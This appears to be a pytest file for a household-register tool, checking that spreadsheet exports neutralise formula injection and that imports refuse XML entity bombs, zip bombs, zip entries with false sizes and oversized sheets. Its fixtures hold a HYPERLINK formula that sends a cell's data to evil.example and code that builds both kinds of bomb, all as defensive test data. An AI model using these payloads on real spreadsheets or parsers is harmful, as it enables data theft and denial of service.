"""Spreadsheets that attack (issue 12.9 and the spreadsheet part of 12.12): an export never holds
a formula, in .xlsx or .csv, read back with openpyxl and python-calamine; a workbook with an XML
entity bomb, a zip bomb, a size that lies or 300,000 rows is refused in one sentence, quickly,
with nothing written."""

from __future__ import annotations

import csv
import io
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from conftest import Ledger

NOW = "2026-11-25T10:00:00+08:00"
# What a hostile or careless typist puts in a name, an address or a note.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&C3,"详情")', "+86 138 0000 0101",
            "-1+1", "@SUM(A1:A9)", "=1+1", "#N/A"]


@pytest.fixture(autouse=True)
def _now(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KEYLEDGER_TEST_NOW", NOW)


def _hostile(ledger: Ledger) -> None:
    ledger.ok("household", "add", "8-1-402", "--name", FORMULAS[0], "--address", FORMULAS[2])
    ledger.ok("household", "edit", "8-1-402", "--notes", FORMULAS[3])
    ledger.ok("household", "add", "8-1-403", "--name", FORMULAS[4], "--address", FORMULAS[5])
    ledger.ok("household", "edit", "8-1-403", "--notes", FORMULAS[1])


def test_an_exported_workbook_holds_text_never_a_formula(ledger: Ledger, tmp_path: Path) -> None:
    import openpyxl
    import python_calamine

    _hostile(ledger)
    out = tmp_path / "households.xlsx"
    ledger.ok("export", "households", "-o", str(out))
    sheet = openpyxl.load_workbook(out).active  # formulas as formulas, not their values
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(FORMULAS) <= texts
    with python_calamine.CalamineWorkbook.from_path(str(out)) as book:
        rows = book.get_sheet_by_index(0).to_python()
    assert set(FORMULAS) <= {v for row in rows for v in row}
    # Nothing in the file's XML is a formula element.
    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_csv_export_neutralises_formula_starts_and_imports_back_as_typed(
        ledger: Ledger, tmp_path: Path) -> None:
    _hostile(ledger)
    text = ledger.ok("export", "households", "--format", "csv").out.lstrip("\ufeff")
    table = list(csv.reader(io.StringIO(text)))
    cells = {c for row in table for c in row}
    for formula in FORMULAS:
        if formula.startswith(("=", "+", "-", "@")):
            assert "'" + formula in cells and formula not in cells
    assert "#N/A" in cells  # not a formula start: as typed
    # The quote is the export's, not the household's: importing the file changes nothing.
    path = tmp_path / "households.csv"
    ledger.ok("export", "households", "-o", str(path))
    dry = ledger.ok("household", "import", str(path), "--dry-run")
    assert "Would add 0 and change 0 households; 3 unchanged." in dry.err


def _workbook(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _real_members(tmp_path: Path) -> dict[str, bytes]:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["户号", "姓名", "地址"])
    book.active.append(["8-1-402", "王秀兰", "东升家园8号楼1单元402"])
    book.save(tmp_path / "plain.xlsx")
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def test_an_xml_entity_bomb_is_refused(ledger: Ledger, tmp_path: Path) -> None:
    members = _real_members(tmp_path)
    sheet = members["xl/worksheets/sheet1.xml"]
    lol = "".join(f'<!ENTITY l{i} "{"".join(f"&l{i - 1};" for _ in range(10))}">'
                  for i in range(1, 10))
    members["xl/worksheets/sheet1.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">' + lol.encode() + b"]>"
        + sheet[sheet.index(b"<worksheet"):].replace("王秀兰".encode(), b"&l9;"))
    path = _workbook(tmp_path / "bomb.xlsx", members)
    started = time.monotonic()
    result = ledger.refused("household", "import", str(path))
    assert time.monotonic() - started < 10
    assert "has an XML document type declaration in xl/worksheets/sheet1.xml" in result.err


def test_a_zip_bomb_is_refused_before_it_is_unpacked(ledger: Ledger, tmp_path: Path) -> None:
    members = _real_members(tmp_path)
    path = tmp_path / "zipbomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        # 300 MB of one character, deflated to ~300 KB: streamed, never held in memory here.
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            chunk = b" " * (1 << 20)
            for _ in range(300):
                member.write(chunk)
    assert path.stat().st_size < 2_000_000
    started = time.monotonic()
    result = ledger.refused("household", "import", str(path))
    assert time.monotonic() - started < 10
    assert "unpacks to 300 MB" in result.err and "zip bomb" in result.err


def test_a_workbook_whose_sizes_lie_is_refused_as_damaged(ledger: Ledger, tmp_path: Path) -> None:
    members = _real_members(tmp_path)
    members["xl/sharedStrings.xml"] = b" " * 5_000_000
    path = _workbook(tmp_path / "liar.xlsx", members)
    data = bytearray(path.read_bytes())
    # Say the 5 MB member is 1,000 bytes in the central directory and in its local header.
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/sharedStrings.xml")
    central = data.rindex(b"xl/sharedStrings.xml") - 46  # the central entry's name comes last
    assert data[central:central + 4] == b"PK\x01\x02"
    data[central + 24:central + 28] = (1000).to_bytes(4, "little")
    data[info.header_offset + 22:info.header_offset + 26] = (1000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    result = ledger.refused("household", "import", str(path))
    assert "cannot be read as a workbook: it is damaged" in result.err


def test_a_sheet_of_300000_rows_is_refused_in_seconds(ledger: Ledger, tmp_path: Path) -> None:
    members = _real_members(tmp_path)
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>8-{n}</t></is></c>'
                   f'<c r="B{n}" t="inlineStr"><is><t>王{n}</t></is></c></row>'
                   for n in range(3, 300_003))
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", rows + "</sheetData>") \
        .replace('<dimension ref="A1:C2"/>', "").encode()
    path = _workbook(tmp_path / "huge.xlsx", members)
    started = time.monotonic()
    result = ledger.refused("household", "import", str(path))
    assert time.monotonic() - started < 30
    assert "has 300002 rows; keyledger imports at most 100000 households at a time" in result.err
    big_csv = tmp_path / "huge.csv"
    big_csv.write_text("户号,姓名,地址\n" + "".join(f"8-{n},王{n},东升家园\n"
                                                 for n in range(300_000)), encoding="utf-8")
    result = ledger.refused("household", "import", str(big_csv))
    assert "keyledger imports at most 100000 households at a time" in result.err


def test_a_file_too_big_to_be_a_register_is_refused_unread(ledger: Ledger, tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with open(path, "wb") as handle:
        handle.truncate(65 * 2**20)  # sparse: 65 MB that take no disk
    result = ledger.refused("household", "import", str(path))
    assert "is 65 MB; a register keyledger imports is at most 64 MB" in result.err


def test_a_damaged_workbook_is_one_sentence(ledger: Ledger, tmp_path: Path) -> None:
    path = tmp_path / "notreally.xlsx"
    path.write_bytes(zlib.compress(b"not a zip"))
    result = ledger.refused("household", "import", str(path))
    assert "cannot be read as a workbook" in result.err
